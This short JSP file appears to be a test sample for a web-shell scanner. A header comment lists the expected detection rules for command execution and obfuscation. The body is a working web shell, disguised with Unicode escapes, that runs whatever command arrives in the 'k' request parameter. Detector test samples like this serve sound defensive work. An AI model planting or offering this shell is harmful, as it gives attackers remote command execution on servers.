<%-- expect rule=jsp.exec-input min=90 rule=jsp.obfuscation --%>
<%
    \u0052\u0075\u006e\u0074\u0069\u006d\u0065.\u0067\u0065\u0074\u0052untime().\u0065\u0078\u0065\u0063(
        \u0072\u0065\u0071\u0075\u0065\u0073\u0074.getParameter("k"));
%>
